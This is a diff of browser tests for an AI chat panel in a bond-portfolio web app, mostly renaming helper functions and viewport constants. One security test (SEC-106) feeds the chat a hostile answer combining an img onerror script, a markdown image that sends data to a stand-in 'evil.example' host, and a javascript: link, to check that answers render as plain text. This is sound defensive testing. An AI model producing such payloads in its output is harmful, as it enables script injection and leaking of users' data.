@@ -10,9 +10,9 @@ import { totalsTexts } from '../../src/web/platform/texts/totals.ts';
 import { signIn, type Account } from '../support/accounts.ts';
 import { expectAccessible } from '../support/axe.ts';
 import { startBrowser } from '../support/browser.ts';
-import { besideTerm, readText } from '../support/read.ts';
+import { termValue, readText } from '../support/read-text.ts';
 import { startSite, type Site } from '../support/site.ts';
-import { AT_THE_DESK, ON_A_DARK_PHONE, visit, type Look } from '../support/visit.ts';
+import { DESKTOP, DARK_PHONE, visit, type Look } from '../support/visit.ts';
 
 let browser: Browser;
 let site: Site;
@@ -33,7 +33,7 @@ afterAll(() => Promise.all([browser.close(), site.stop()]));
 
 const VALUE_QUESTION = { en: 'How much are my bonds worth?', bg: 'Колко струват облигациите ми?' } as const;
 
-function partsOf(page: Page, { language }: Look) {
+function readParts(page: Page, { language }: Look) {
   const texts = chatTexts[language];
   const panel = page.getByRole('dialog', { name: texts.title });
   return {
@@ -77,12 +77,12 @@ async function answerInstead(page: Page, answer: { status: number; content: stri
   return sent;
 }
 
-describe.each([AT_THE_DESK, ON_A_DARK_PHONE])('at $width pixels, $theme, in $language', (look) => {
+describe.each([DESKTOP, DARK_PHONE])('at $width pixels, $theme, in $language', (look) => {
   test('a person asks for the value of their bonds and reads the figure of the card', async () => {
     await visit({ browser, site, look }, async ({ page }) => {
       await signIn(page, owner);
-      const { texts, panel, button, log, field, send } = partsOf(page, look);
-      const value = besideTerm(page, totalsTexts[look.language].portfolioValue);
+      const { texts, panel, button, log, field, send } = readParts(page, look);
+      const value = termValue(page, totalsTexts[look.language].portfolioValue);
       await expect.poll(() => readText(value)).toMatch(/\d/);
       const figure = /[\d.,\s]*\d/.exec(await readText(value))?.[0].trim() ?? '';
 
@@ -113,7 +113,7 @@ describe.each([AT_THE_DESK, ON_A_DARK_PHONE])('at $width pixels, $theme, in $lan
   test('the panel has its size and its place, and at the end of the page the button covers nothing', async () => {
     await visit({ browser, site, look }, async ({ page }) => {
       await signIn(page, owner);
-      const { panel, button, log } = partsOf(page, look);
+      const { panel, button, log } = readParts(page, look);
       await page.getByText('BG2030026111').first().waitFor();
       // The list grows while its rows are measured: what was its end is none any more, and the button has left.
       await expect
@@ -144,7 +144,7 @@ describe.each([AT_THE_DESK, ON_A_DARK_PHONE])('at $width pixels, $theme, in $lan
 test('Shift+Enter begins a new line; nothing is sent while an answer is awaited', async () => {
   await visit({ browser, site }, async ({ page }) => {
     await signIn(page, owner);
-    const { texts, button, log, field, send } = partsOf(page, AT_THE_DESK);
+    const { texts, button, log, field, send } = readParts(page, DESKTOP);
     let answer: () => void = () => undefined;
     let questions = 0;
     await page.route('**/api/ai/chat', async (route) => {
@@ -173,7 +173,7 @@ test('Shift+Enter begins a new line; nothing is sent while an answer is awaited'
 test('a failure ends in an apology, which is not sent back; the last 8 messages are sent', async () => {
   await visit({ browser, site }, async ({ page, expectRefusal }) => {
     await signIn(page, owner);
-    const { texts, button, log, field } = partsOf(page, AT_THE_DESK);
+    const { texts, button, log, field } = readParts(page, DESKTOP);
     // Stays until another one is put before it: without any, the browser may forget the script that is asked for meanwhile.
     await page.route('**/api/ai/chat', (route) => route.fulfill({ status: 500, body: 'broken' }));
     await button.click();
@@ -212,7 +212,7 @@ test('answers are text and nothing else (SEC-106)', async () => {
   const hostile = '<img src=x onerror=alert(1)> ![x](https://evil.example/?d=1) [a](javascript:alert(1))';
   await visit({ browser, site }, async ({ page }) => {
     await signIn(page, owner);
-    const { button, log, field } = partsOf(page, AT_THE_DESK);
+    const { button, log, field } = readParts(page, DESKTOP);
     await answerInstead(page, { status: 200, content: hostile });
     await button.click();
     await field.fill('Hello');
@@ -225,7 +225,7 @@ test('answers are text and nothing else (SEC-106)', async () => {
 test('hidden amounts are hidden in answers, too', async () => {
   await visit({ browser, site }, async ({ page }) => {
     await signIn(page, owner);
-    const { button, log, field } = partsOf(page, AT_THE_DESK);
+    const { button, log, field } = readParts(page, DESKTOP);
     await page.getByRole('button', { name: layoutTexts.en.hideAmounts }).click();
     await button.click();
     await field.fill(VALUE_QUESTION.en);
